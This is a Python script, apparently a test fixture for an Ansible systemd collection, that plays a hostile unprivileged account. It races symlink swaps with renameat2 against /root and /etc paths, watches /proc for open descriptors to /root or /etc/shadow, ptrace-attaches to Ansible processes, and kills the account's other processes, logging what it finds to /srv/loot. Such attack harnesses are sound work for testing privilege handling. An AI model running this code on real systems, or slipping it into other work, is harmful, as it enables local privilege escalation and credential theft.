# Copyright (c) 2026 the unitsmith.systemd authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the account does in the background, again and again: attack.py swap|spy|kill.

Whatever it gets hold of goes to /srv/loot, where verify.yml looks.
"""

import contextlib
import ctypes
import os
import signal
import sys
import time

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
RENAME_EXCHANGE, AT_FDCWD = 2, -100
SYSCALL_RENAMEAT2 = 316
libc = ctypes.CDLL(None, use_errno=True)


def loot(what):
    with open("/srv/loot/%s" % os.path.basename(sys.argv[0]), "a") as stream:
        stream.write(what + "\n")


def swap():
    """A directory and a link to one of root's change places for ever: renameat2(2)."""
    for name, target in (("swapped", "/root/priv"), ("run/code", "/etc"), ("log/deep", "/root")):
        path = "/srv/app/" + name
        with contextlib.suppress(OSError):
            os.mkdir(path)
            os.mkdir(path + "/below")
        with contextlib.suppress(OSError):
            os.symlink(target, path + ".link")
    while True:
        for name in ("swapped", "run/code", "log/deep"):
            one = ("/srv/app/" + name).encode()
            libc.syscall(SYSCALL_RENAMEAT2, AT_FDCWD, one, AT_FDCWD, one + b".link", RENAME_EXCHANGE)


def others():
    """The processes of this account that did not come from here."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                with open("/proc/%s/status" % name) as stream:
                    status = stream.read()
                with open("/proc/%s/cmdline" % name) as stream:
                    if "attack.py" in stream.read():
                        continue
                if "\nUid:\t%d\t" % os.getuid() in status:
                    yield int(name)


def spy():
    """Look into whatever runs as this account: into what root left in it before it became this account."""
    while True:
        for pid in others():
            with contextlib.suppress(OSError):
                for number in os.listdir("/proc/%d/fd" % pid):
                    if number in ("0", "1", "2"):
                        continue
                    with contextlib.suppress(OSError):
                        target = os.readlink("/proc/%d/fd/%s" % (pid, number))
                        if target.startswith(("/root", "/etc/shadow", "/etc/hostile.env")):
                            loot("descriptor of %s in %d" % (target, pid))
            with open("/proc/%d/cmdline" % pid) if os.path.exists("/proc/%d" % pid) else open(os.devnull) as stream:
                ansible = "ansible" in stream.read().lower() or "AnsiballZ" in stream.read()
            if ansible and libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                loot("traced a process that was root's: %d" % pid)
                libc.ptrace(PTRACE_DETACH, pid, 0, 0)
        time.sleep(0.001)


def kill():
    """End and stop whatever runs as this account."""
    while True:
        for pid in others():
            for number in (signal.SIGSTOP, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
        time.sleep(0.001)


if __name__ == "__main__":
    {"swap": swap, "spy": spy, "kill": kill}[sys.argv[1]]()
